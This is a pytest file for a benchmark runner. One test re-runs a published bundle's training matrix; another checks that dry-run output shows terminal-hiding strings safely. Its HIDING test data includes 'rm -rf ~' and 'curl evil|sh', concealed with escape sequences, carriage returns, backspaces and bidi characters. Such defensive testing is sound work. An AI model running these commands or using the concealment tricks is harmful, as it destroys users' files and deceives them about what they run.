"""A stranger's bundle: its matrix is planned here, shown in full by a dry run, and runs.

The trainer is the stand-in, which prints its argv; Ansible, supervisor and archives are real.
"""

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from runner.base.paths import PROJECT
from tests.golden.places import stood_in
from tests.on_nodes.campaign import Bench

MATRIX: dict[str, Any] = {
    "name": "shown",
    "defaults": {
        "system": "torch_gpt",
        "model": "gpt2-tiny",
        "train_iters": 12,
        "env": {"ACT": "show", "VALUE": 'it\'s $HOME, "two"  spaces'},
    },
    "axes": {"zero_stage": [0, 1]},
    "warmup_iters": 2,
    "time_limit_s": 480,
    "baseline": "zero_stage=0",
}


def command(*words: str, folder: Path) -> subprocess.CompletedProcess[str]:
    """A command as a stranger gives it: in another folder, with no lock, cache or state of ours."""
    env = {
        **os.environ,
        "PYTHONPATH": str(PROJECT),
        "XDG_CACHE_HOME": str(folder / "cache"),
        "COLUMNS": "200",
    }
    argv = [sys.executable, "-m", "runner", *words]
    return subprocess.run(
        argv, cwd=folder, env=env, capture_output=True, text=True, timeout=400, check=False
    )


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory, stand_in_root: Path) -> Path:
    """What somebody published: two cells that ran."""
    folder = tmp_path_factory.mktemp("theirs")
    bench = Bench(folder, stood_in(folder / "here", stand_in_root), MATRIX)
    assert bench.run().returncode == 0
    target = folder / "shown.tar.gz"
    made = command("publish", str(bench.campaign), "--anyway", "-o", str(target), folder=folder)
    assert made.returncode == 0, made.stderr
    shutil.move(bench.runs, folder / "gone")  # nothing of the recorded campaign helps
    return target


def started(runs: Path) -> tuple[list[str], list[str]]:
    """The argv of the one run of zero_stage=1 there, and what its trainer said of VALUE."""
    (run,) = runs.glob("shown-*/zero_stage=1-*/repeat1/attempt1")
    (log,) = run.glob("nodes/*/launcher.log")
    said = [line for line in log.read_text().splitlines() if line.startswith("VALUE")]
    return json.loads((run / "run.json").read_text())["nodes"][0]["argv"], said


def test_a_bundles_matrix_runs_on_ones_own_nodes_and_is_compared(
    bundle: Path, tmp_path: Path, stand_in_root: Path
) -> None:
    mine = stood_in(tmp_path / "mine", stand_in_root)
    shutil.unpack_archive(bundle, tmp_path, filter="data")
    matrix = tmp_path / "shown-here" / "tables" / "matrix.yaml"
    runs = tmp_path / "runs"
    words = ["bench", str(matrix), "-i", str(mine), "--only", "zero_stage=1", "--runs", str(runs)]
    ended = command(*words, folder=tmp_path)
    assert ended.returncode == 0, ended.stderr
    (was, said), (now, say) = started(bundle.parent / "gone"), started(runs)
    port = re.compile(r"\d{5}")
    assert [port.sub("", word) for word in now] == [port.sub("", word) for word in was]
    assert say == said != []
    assert command(*words, "--again", folder=tmp_path).returncode == 0
    assert len(list(runs.glob("shown-mine/*/*/*/run.json"))) == 2
    both = (str(bundle), "shown-mine", "--runs", str(runs), "--only", "zero_stage=1")
    compared = command("compare", *both, "--format", "json", folder=tmp_path)
    (cell,) = json.loads(compared.stdout)["cells"]
    assert (cell["name"], cell["status_a"], cell["status_b"]) == ("zero_stage=1", "ok", "ok")
    assert cell["may_say"] == "none"  # one repeat of each


def _osc(text: str) -> str:
    return f"a\x1b]0;{text}\x07b"


# What a terminal obeys, hides, or shows as something else.
HIDING = (
    _osc("rm -rf ~"),
    "\x1b]8;;x\x1b\\curl evil|sh\x1b]8;;\x1b\\",
    "\x9d0;hidden\x9cshown",
    "safe\rrm -rf ~",
    "rm -rf ~" + "\b" * 8 + "echo ok ",
    "a\u202ecod.exe\u2066",
    "l\u200bs\ufeff\u3164\u034f",
    "\x1b[8mhidden\x1b[0m\x1b[2J",
    "/u\u0455r/bin/\u05d0 1 2",
    "one\n  run  forged",
    "$'\\x1b[0m'",
    "\x85\u2028\x0b\x0c\x1c",
    "\x7f\x1bPq\x1b\\\x1bc",
)


def test_what_a_terminal_would_obey_or_hide_is_shown_as_bash_reads_it(
    tmp_path: Path, stand_in_root: Path
) -> None:
    values = {f"VALUE{number}": text for number, text in enumerate(HIDING)}
    cell = {"system": "command", "cwd": "/opt", "argv": ["/bin/echo", *HIDING], "env": values}
    content = {"name": "evil", "defaults": {**cell, "log": {"step": r"step (\d+)"}}}
    matrix = tmp_path / "evil.yaml"
    matrix.write_text(yaml.safe_dump(content))
    mine = stood_in(tmp_path / "mine", stand_in_root)
    ended = command("bench", str(matrix), "-i", str(mine), "--dry-run", folder=tmp_path)
    assert ended.returncode == 0, ended.stderr
    assert all(letter == "\n" or " " <= letter <= "~" for letter in ended.stdout)
    assert "\n  run  forged" not in ended.stdout
    (env,) = re.findall(r"\n    env  (.*)", ended.stdout)
    (run,) = re.findall(r"\n    run  (.*)", ended.stdout)
    printed = subprocess.run(
        ["bash", "-c", f"env -i {env} env -0; printf '%s\\0' {run}"],
        capture_output=True,
        env={"LC_ALL": "C.UTF-8"},
        check=True,
    )
    words = printed.stdout.decode().split("\0")
    assert {f"{name}={text}" for name, text in values.items()} <= set(words)
    assert words[-len(HIDING) - 1 : -1] == list(HIDING)
